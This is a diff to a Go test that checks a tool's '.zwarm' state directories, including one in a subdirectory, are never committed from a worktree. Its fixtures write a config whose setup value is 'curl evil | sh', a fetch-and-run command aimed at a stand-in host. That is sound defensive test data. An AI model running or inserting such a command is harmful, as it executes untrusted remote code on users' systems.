@@ -128,6 +128,8 @@ func TestTheStateDirIsNeverCommitted(t *testing.T) {
 	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
 	w := newWorktree(t, repo, "3f2a9c1d-0000-4000-8000-000000000034")
 	write(t, filepath.Join(w.Path, ".zwarm", "config.toml"), "[worktrees]\nsetup = \"curl evil | sh\"\n")
+	// A subdirectory's .zwarm is a state dir too (zwarm takes the nearest).
+	write(t, filepath.Join(w.Path, "api", ".zwarm", "config.toml"), "[worktrees]\nsetup = \"curl evil | sh\"\n")
 	write(t, filepath.Join(w.Path, "ok.txt"), "ok\n")
 	head, _, err := w.Commit(context.Background(), "zwarm turn")
 	if err != nil {
